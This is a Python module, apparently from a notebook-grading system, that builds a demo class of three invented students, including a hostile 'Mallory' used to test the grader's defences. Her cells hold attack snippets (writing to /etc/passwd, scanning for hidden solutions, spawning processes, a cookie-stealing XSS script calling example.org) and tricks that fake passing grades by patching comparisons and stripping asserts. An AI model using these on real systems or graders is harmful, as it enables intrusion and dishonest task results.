"""A class of three invented students, graded by the real path: a perfect one, one with typical mistakes, one hostile.

Ada has the lesson's own answers. Alan has wrong answers from the lesson's bank. Mallory writes nothing of use and tries
to get points, or to do harm, in other ways; `course demo` shows what she gains.
"""

from __future__ import annotations

import re
import shutil
from collections.abc import Callable
from pathlib import Path

from nbformat import NotebookNode, v4

from grading import paths
from grading.classroom.folder import Classroom
from grading.classroom.states import Result
from grading.course import bank
from grading.execution import worker
from grading.gradebook.grade import Options, Progress, grade
from grading.lessons import notebooks
from grading.lessons.answers import read_banks, solutions
from grading.lessons.notebooks import BEGIN, END, is_marked

LESSON = "01-word2vec"
ALAN_MISSES = 3  # every third exercise

ATTACKS = {
    "reads the solutions and the hidden tests": """
import glob, os
for folder in ("..", os.path.expanduser("~"), "/root", "/home", "/srv", "/mnt", "/tmp"):
    for path in glob.glob(os.path.join(folder, "**", "*.ipynb"), recursive=True)[:50]:
        print("found", path)
""",
    "writes outside its folder": """
for path in ("/usr/bin/python3", "/etc/passwd", "/mallory", os.path.join(os.path.dirname(os.__file__), "mallory.py")):
    try:
        open(path, "w").write("mallory")
        print("wrote", path)
    except OSError as error:
        print(path, error)
""",
    "opens a connection": """
import socket
for address in (("1.1.1.1", 53), ("127.0.0.1", 22), ("127.0.0.1", 8888)):
    try:
        socket.create_connection(address, timeout=2)
        print("connected", address)
    except OSError as error:
        print(address, error)
""",
    "makes every comparison say yes": """
import torch, numpy as np
torch.allclose = torch.equal = lambda *args, **kwargs: True
np.allclose = np.array_equal = lambda *args, **kwargs: True
from pretrain import check
for name in dir(check):
    if callable(getattr(check, name)) and not name.startswith("_") and name != "Failed":
        setattr(check, name, lambda *args, **kwargs: None)
""",
    "removes the asserts": """
import ast
class NoAsserts(ast.NodeTransformer):
    def visit_Assert(self, node):
        return ast.Pass()
get_ipython().ast_transformers.append(NoAsserts())
""",
    "starts processes without end": """
import subprocess
started = []
try:
    for _ in range(1000):
        started.append(subprocess.Popen(["sleep", "1000"]))
except OSError as error:
    print(len(started), "processes:", error)
for process in started:
    process.kill()
    process.wait()
""",
}
WORDS = """*My answer.* With ten labels of each kind the vectors were right more often than the letters; with a thousand
labels plain counts did better. I would measure a plain baseline first."""
EMPTY = "def {name}(*args, **kwargs):\n    return None\n"
SCRIPT = """My answer is below.

<script>fetch("https://example.org/?" + document.cookie)</script>
<img src="x" onerror="alert('mallory')">
[a link](javascript:alert('mallory'))
"""


def demo(
    directory: Path = paths.BUILD / "demo",
    *,
    jobs: int = 1,
    sandbox: bool = True,
    executor: str = worker.DEFAULT_EXECUTOR,
    progress: Progress = lambda done, total, result: None,
    lesson: str = LESSON,
    root: Path = paths.ROOT,
) -> tuple[Classroom, list[Result]]:
    """Make the class in `directory`, which is emptied first, grade it, and return it with the results."""
    classroom = Classroom(root, directory)
    with classroom.locked():
        _empty(classroom)
    released = bank.released(lesson, root)
    students: dict[str, Callable[[NotebookNode, str, Path], NotebookNode]] = {
        "ada": ada,
        "alan": alan,
        "mallory": mallory,
    }
    for name, write in students.items():
        bank.submit(classroom, name, lesson, write(released, lesson, root))
    options = Options(jobs=jobs, sandbox=sandbox, executor=executor)
    return classroom, grade(classroom, [lesson], options=options, progress=progress)


def _empty(classroom: Classroom) -> None:
    for path in classroom.directory.iterdir():
        if path.is_dir():
            shutil.rmtree(path)
        elif path != classroom.lock:
            path.unlink()


def ada(released: NotebookNode, lesson: str, root: Path) -> NotebookNode:
    """Every answer is right."""
    return bank.filled(released, _answers(lesson, root))


def _answers(lesson: str, root: Path) -> dict[str, str]:
    """Return the lesson's own answers; what a student writes in words stands where the rubric does."""
    rubric = re.compile(rf"{BEGIN}.*?{END}", re.DOTALL)
    notebook = notebooks.read(paths.notebook(lesson, root))
    own = {notebooks.grade_id(cell): cell.source for cell in notebook.cells if notebooks.is_marked(cell, "solution")}
    return {name: source if name.startswith("ex") else rubric.sub(WORDS, source) for name, source in own.items()}


def alan(released: NotebookNode, lesson: str, root: Path) -> NotebookNode:
    """Most answers are right; every third is a typical mistake, and the last one is not written."""
    answers = _answers(lesson, root)
    banked = read_banks(lesson, root)
    for exercise in list(banked)[1::ALAN_MISSES]:
        wrong = [answer for answer in banked[exercise] if not answer.right]
        if wrong and exercise in answers:
            answers[exercise] = wrong[0].source
    code = [name for name in answers if name.startswith("ex")]
    answers.pop(code[-1])
    return bank.filled(released, answers)


def mallory(released: NotebookNode, lesson: str, root: Path) -> NotebookNode:
    """Functions that return nothing, an attack in each of the first cells, and a script in every text answer."""
    answers = {
        name: EMPTY.format(name=found[1])
        for name, source in solutions(lesson, root).items()
        if (found := re.search(r"^(?:def|class) +(\w+)", source, re.MULTILINE))
    }
    notebook = bank.filled(released, answers)
    for cell in notebook.cells:
        if cell.cell_type == "markdown" and is_marked(cell, "solution"):
            cell.source = SCRIPT
    attacks = [v4.new_code_cell(f"# {title}\nimport os\n{code.strip()}") for title, code in ATTACKS.items()]
    notebook.cells[1:1] = [*attacks, v4.new_markdown_cell(SCRIPT)]
    return notebook
